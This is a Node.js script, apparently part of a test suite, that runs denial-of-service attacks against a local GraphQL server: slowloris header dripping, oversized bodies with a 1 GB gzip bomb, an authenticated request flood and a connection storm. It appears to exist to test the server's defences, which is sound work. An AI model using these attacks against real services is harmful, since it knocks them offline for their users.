// One attack on 127.0.0.1:PORT from 127.0.0.2, until it is told to stop; then it tells what it got. Usage: attacker.mjs <attack>
import net from "node:net";
import http from "node:http";
import os from "node:os";
import { gzipSync } from "node:zlib";

const port = +process.env.PORT, token = process.env.OTHER_TOKEN, from = "127.0.0.2";
const got = {};
const count = what => (got[what] = (got[what] ?? 0) + 1);
let stopped = false;
// It shares a processor with the client that is measured.
os.setPriority(19);

function connect(then, gone) {
  const socket = net.connect({ port, host: "127.0.0.1", localAddress: from });
  let answered = "";
  socket.on("connect", () => then(socket));
  socket.on("data", data => { if (!answered) count(answered = data.toString("latin1").slice(9, 12)); });
  socket.on("error", () => {});
  socket.on("close", () => { count("closed"); if (!stopped) gone(); });
  return socket;
}

const attacks = {
  // Heads that never end, a byte each second.
  slowloris() {
    const open = () => connect(socket => {
      socket.write("GET /graphql HTTP/1.1\r\nHost: x\r\nX-Slow: ");
      const drip = setInterval(() => socket.writable ? socket.write("x") : clearInterval(drip), 1000);
    }, () => setTimeout(open, 100));
    for (let i = 0; i < 500; i++) open();
  },
  // Bodies of 5 MB, and of 1 MB that would be a gigabyte.
  oversize() {
    const plain = Buffer.alloc(5e6, 0x20), bomb = gzipSync(Buffer.alloc(1e9));
    const send = (bytes, encoding) => connect(socket => socket.end(Buffer.concat([Buffer.from(
      `POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\n${encoding}Content-Length: ${bytes.length}\r\n\r\n`), bytes])),
    () => setTimeout(send, 50, bytes, encoding));
    for (let i = 0; i < 4; i++) send(plain, "");
    for (let i = 0; i < 4; i++) send(bomb, "Content-Encoding: gzip\r\n");
  },
  // Somebody else asks as fast as they are answered.
  flood() {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 50, localAddress: from });
    const body = JSON.stringify({ query: "{ rides(first: 20) { nodes { id } } }" });
    const ask = () => {
      if (stopped) return;
      const request = http.request({ port, host: "127.0.0.1", path: "/graphql", method: "POST", agent,
        headers: { "Content-Type": "application/json", "Content-Length": body.length, Authorization: `Bearer ${token}` } },
      answer => { count(answer.statusCode); answer.resume(); answer.on("end", ask); });
      request.on("error", () => { count("error"); setTimeout(ask, 10); });
      request.end(body);
    };
    for (let i = 0; i < 50; i++) ask();
  },
  // More connections than one address may have, again and again.
  storm() {
    const open = () => connect(socket => setTimeout(() => socket.destroy(), 500), () => setImmediate(open));
    for (let i = 0; i < 1500; i++) open();
  },
};
process.on("message", () => {
  stopped = true;
  process.send(got);
});
attacks[process.argv[2]]();
process.send("ready");
